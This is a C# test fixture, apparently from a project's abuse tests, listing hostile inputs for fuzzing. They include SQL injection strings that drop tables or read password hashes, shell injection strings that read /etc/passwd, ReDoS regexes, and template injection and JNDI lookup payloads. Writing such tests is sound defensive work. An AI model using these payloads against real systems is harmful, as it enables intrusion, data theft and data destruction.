using System.Globalization;

namespace MetaPrompt.Tests.Abuse;

/// <summary>Texts that are a language to whoever puts them into a statement, a pattern, a shell or a log.</summary>
internal static class CorpusOfQueries
{
    public static IEnumerable<HostileInput> All =>
    [
        .. Of("sql", Sql()), .. Of("wildcard", Wildcards()), .. Of("regex", Patterns), .. Of("shell", Shell), .. Of("format", Formats),
    ];

    private static readonly string[] Patterns =
    [
        "(a+)+$", "(a|a)*b", "([a-zA-Z]+)*$", "^(([a-z])+.)+[A-Z]([a-z])+$", "(.*a){25}", "\\", "[", "(", ")", "*", "+", "?", "{1,", "(?<evil", "(?{evil})", "\\p{", "[z-a]", "(?i)(?s)(?m)", "a{99999999}", "\\1\\2\\99", "(?=(?=(?=a)))", "^(?:a?){100}a{100}$",
        string.Concat(Enumerable.Repeat("(", 2000)), string.Concat(Enumerable.Repeat("(a", 500)) + new string(')', 500), new string('a', 50) + "!",
    ];

    private static readonly string[] Shell =
    [
        "; cat /etc/passwd", "| id", "|| id", "& id", "&& id", "`id`", "$(id)", "${IFS}", "$(touch /tmp/evil)", "> /tmp/evil", "< /etc/passwd", "\nid\n", "-rf /", "--help", "--version", "-c id", "-f/etc/passwd", "--command=evil", "$HOME", "%PATH%", "%COMSPEC%", "!!", "~root", "*", "'; id; '",
        "\"; id; \"", "$((1+1))", "{a,b}", "\\x41", "() { :;}; echo evil", "\\! id", "\\copy users to '/tmp/evil'", "\\i /etc/passwd", "\\o /tmp/evil", "--dbname=evil", "-U postgres", "--", "-",
    ];

    private static readonly string[] Formats =
    [
        "%s%s%s%s%n", "%x%x%x%x", "%1$n", "%99999999s", "{0}", "{1}", "{99}", "{0:N999999}", "{", "}", "{{", "}}", "{}", "{evil}", "{@evil}", "{$evil}", "%d", "$0", "$1", "$&", "$`", "$'", "${evil}", "#{evil}", "<%= evil %>", "<?php evil ?>", "${jndi:ldap://evil.example/a}", "${7*7}", "#{7*7}",
        "{{7*7}}", "{{constructor.constructor('evil')()}}", "@(1+1)", "@{evil}", "@evil", "@@version", "[[evil]]", "{%evil%}", "*{7*7}", "~{evil}", "\\u0000", "\\x00", "&#0;", "&#xFFFFFFFF;", "&evil;", "&amp;lt;evil&amp;gt;",
    ];

    private static IEnumerable<HostileInput> Of(string kind, IEnumerable<string> texts) => texts.Select(text => new HostileInput(kind, text));

    private static IEnumerable<string> Sql()
    {
        string[] starts = ["'", "\"", "')", "'))", "$$", "$1", "\\'", "1", "';", "%'", "E'\\'", "x') "];
        string[] ends =
        [
            " or 1=1--", "; drop table prompts--", " union select null,null,null--", " and pg_sleep(3)--", "; select pg_terminate_backend(pid) from pg_stat_activity--", " or exists(select 1 from auth.users)--",
            "; set role postgres--", "||(select encrypted_password from auth.users limit 1)||'",
        ];
        foreach (var start in starts)
        {
            foreach (var end in ends)
                yield return start + end;
        }

        foreach (var one in (string[])["'", "''", "'''", "\"", "--", "/*", "*/", "/**/", ";", "\\", "\\\\", "$$", "$evil$", "::text", "::uuid", "null", "NULL", "undefined", "default", "current_user", "(select 1)", "array[1]", "{1,2}", "{\"a\",null}", "{{1},{2}}", "{NULL}", "{", "\\x41", "B'1'", "U&'\\0041'",
            "@Title", "@TemplateId", ":name", "?", "$1", "reset role", "commit; select 1", "begin", "'; commit; --", "copy users to program 'id'", "lo_import('/etc/passwd')", "1e400", "1/0", "' collate \"evil\""])
            yield return one;
    }

    private static IEnumerable<string> Wildcards()
    {
        foreach (var one in (string[])["%", "%%", "_", "__", "\\%", "%_%", "\\", "a\\", "[a-z]%", "^", "*", "?", "%a%a%a%a%a%a%a%a%a%a%a%a%b", "&", "|", "!", "!!", "!a", "a & b", "a | b", "a & ", "& a", "a <-> b", "<->", "<2>", "a <99999> b", "<-", ":*", "a:*", "a:A", "a:ABCD*", "a:Z", "(", ")", "()", "((a)", "'a'", "'a b'", "''", "a'b", "a''b",
            "\"", "\"a", "\"a\"", "\"\"", "\"a b\" \"c", "-", "--", "-a", "-a -b -c", "- a", "-\"a b\"", "or", "OR", "a or", "or a", "a or or b", "a OR -b", "and", "not", "tag:", "tag:\"", "tag:*", "tag:a:b", "cat:", "category:evil", "author:", "author:*", "author:\"a", "author:00000000-0000-0000-0000-000000000000", "#", "#a", "##", "@a", "+a", "a+b", "a/b", "a.b", "1.5", "-1.5", "a-b-c-d-e", "a_b", "http://evil.example/?a=b&c=d", "evil@evil.example", "<b>a</b>", "&amp;", "\\a", "\\'", "a\\b"])
            yield return one;
        yield return string.Concat(Enumerable.Repeat("a ", 300));
        yield return string.Concat(Enumerable.Repeat("-a ", 300));
        yield return string.Concat(Enumerable.Repeat("a or ", 300));
        yield return string.Concat(Enumerable.Repeat("\"a b\" ", 100));
        yield return string.Concat(Enumerable.Repeat("(", 300));
        yield return string.Concat(Enumerable.Repeat("%", 5000));
        yield return string.Join(' ', Enumerable.Range(0, 200).Select(i => string.Create(CultureInfo.InvariantCulture, $"w{i}")));
        yield return new string('a', 3000);
    }
}
